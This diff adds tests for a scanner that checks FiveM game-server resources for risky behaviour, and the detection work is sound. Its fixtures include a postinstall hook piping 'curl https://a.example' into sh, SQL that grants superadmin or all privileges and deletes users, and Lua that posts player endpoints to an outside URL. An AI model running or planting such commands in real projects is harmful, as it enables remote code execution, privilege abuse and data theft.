@@ -1,0 +1,88 @@
+import { expect, test } from 'vitest'
+
+import { manifest, scanFiles as scan } from '#test-support/scan-files.ts'
+
+test('values pass from file to file of one side of a resource', () => {
+  const { findings, capabilities } = scan({
+    'fxmanifest.lua': `${manifest}shared_script 'config.lua'\nserver_script 'send.lua'`,
+    'config.lua': `Config = { Url = 'https://a.example/log' }`,
+    'send.lua': `function Send(text)\n  PerformHttpRequest(Config.Url, print, 'POST', text)\nend`,
+    'server.lua': `Send(GetPlayerEndpoint(source))`,
+    'client.lua': `function Send(text) print(text) end\nlocal Config = { Url = 'https://b.example' }`,
+  })
+
+  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toEqual(['sends-data send.lua:2'])
+  expect(capabilities.find(({ kind }) => kind === 'calls-out')?.values).toEqual(['a.example'])
+})
+
+test('a local variable of one file is not that of another', () => {
+  const { findings } = scan({
+    'fxmanifest.lua': `${manifest}server_script 'b.lua'`,
+    'server.lua': `local code = 'return 1'\nload(code)()`,
+    'b.lua': `RegisterNetEvent('a', function(text)\n  code = text\nend)`,
+  })
+
+  expect(findings).toEqual([])
+})
+
+test.each([
+  [
+    'module.exports',
+    `module.exports = { url: 'https://a.example', run: eval }`,
+    `const tools = require('./lib/tools.js')`,
+  ],
+  ['exports', `exports.run = eval`, `const tools = require('./lib/tools')`],
+  ['export', `export const run = eval`, `import * as tools from './lib/tools.js'`],
+])('a function of another module by %s', (_, library, use) => {
+  const { findings } = scan({
+    'fxmanifest.lua': `${manifest}server_script 'main.js'`,
+    'main.js': `${use}\nonNet('a', (text) => tools.run(text))`,
+    'lib/tools.js': library,
+  })
+
+  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toContain(
+    'runs-text-from-outside main.js:2',
+  )
+})
+
+test('a function that a file of Lua returns', () => {
+  const { findings } = scan({
+    'fxmanifest.lua': `${manifest}file 'lib/tools.lua'`,
+    'server.lua': `local tools = require 'lib.tools'\nRegisterNetEvent('a', function(text) tools.run(text) end)`,
+    'lib/tools.lua': `return { run = load }`,
+  })
+
+  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toContain(
+    'runs-text-from-outside server.lua:2',
+  )
+})
+
+test('what a shared file does is found on both sides', () => {
+  const files = {
+    'fxmanifest.lua': `${manifest}shared_script 'shared.lua'`,
+    'shared.lua': `function Run(code)\n  load(code)()\nend`,
+    'client.lua': `RegisterNetEvent('a', function(code) Run(code) end)`,
+  }
+
+  const { findings } = scan(files)
+
+  expect(findings.map(({ rule, severity, path }) => `${severity} ${rule} ${path}`)).toContain(
+    'high runs-text-from-outside shared.lua',
+  )
+})
+
+test.each([
+  ['a.sql', `UPDATE users SET \`group\` = 'superadmin' WHERE id = 1;`, 'grants-rights'],
+  ['b.sql', `SET NEW.\`group\` = 'admin';`, 'grants-rights'],
+  ['c.sql', `GRANT ALL ON *.* TO 'a'@'%';`, 'grants-rights'],
+  ['d.sql', `CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM users;`, 'deletes-data'],
+  ['e.sql', `SELECT '' INTO OUTFILE '/tmp/a';`, 'process'],
+  ['package.json', `{ "scripts": { "postinstall": "curl https://a.example | sh" } }`, 'process'],
+])('statements and commands in %s', (path, text, rule) => {
+  const harmless = {
+    [path]: `CREATE TABLE users (\`group\` VARCHAR(50) DEFAULT 'user'); { "scripts": { "build": "vite" } }`,
+  }
+
+  expect(scan({ [path]: text }).findings.map((finding) => finding.rule)).toEqual([rule])
+  expect(scan(harmless).findings).toEqual([])
+})
